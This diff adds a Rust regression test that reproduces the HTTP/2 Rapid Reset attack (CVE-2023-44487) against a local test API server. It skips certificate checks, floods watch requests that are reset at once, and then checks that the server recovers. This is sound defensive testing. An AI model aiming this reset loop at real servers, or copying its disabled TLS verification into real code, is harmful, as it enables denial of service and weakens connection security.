@@ -152,3 +152,40 @@ impl ServerCertVerifier for Anybody {
         rustls::crypto::aws_lc_rs::default_provider().signature_verification_algorithms.supported_schemes()
     }
 }
+
+/// CVE-2023-44487: requests that are cancelled as soon as they are made cost the client nothing and the server everything.
+#[test]
+fn a_client_that_resets_every_stream_holds_nobody_up() {
+    let server = Server::start();
+    let runtime = tokio::runtime::Runtime::new().unwrap();
+    println!("{} streams until the server had enough", runtime.block_on(reset_streams(&server.address)));
+    assert_eq!(server.code(&[], "/readyz").0, "200");
+    let open = || {
+        let metrics = server.code(&[], "/metrics").1;
+        let lines = metrics.lines().filter(|line| line.starts_with("apiserver_longrunning_requests{"));
+        lines.filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok()).sum::<f64>()
+    };
+    until(open, |open| *open == 0.0);
+}
+
+/// Opens watches and resets each at once, until the server ends the connection; returns how many.
+async fn reset_streams(address: &str) -> usize {
+    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
+    let builder = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap();
+    let mut config = builder.dangerous().with_custom_certificate_verifier(Arc::new(Anybody)).with_no_client_auth();
+    config.alpn_protocols = vec![b"h2".to_vec()];
+    let socket = tokio::net::TcpStream::connect(address).await.unwrap();
+    let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
+    let stream = connector.connect(ServerName::try_from("localhost").unwrap(), socket).await.unwrap();
+    let (mut client, connection) = h2::client::handshake(stream).await.unwrap();
+    tokio::spawn(connection);
+    for sent in 0..20_000 {
+        let Ok(ready) = client.ready().await else { return sent };
+        client = ready;
+        let uri = "https://localhost/api/v1/namespaces?watch=true";
+        let request = http::Request::get(uri).header("authorization", "Bearer a-token").body(()).unwrap();
+        let Ok((_, mut stream)) = client.send_request(request, true) else { return sent };
+        stream.send_reset(h2::Reason::CANCEL);
+    }
+    20_000
+}
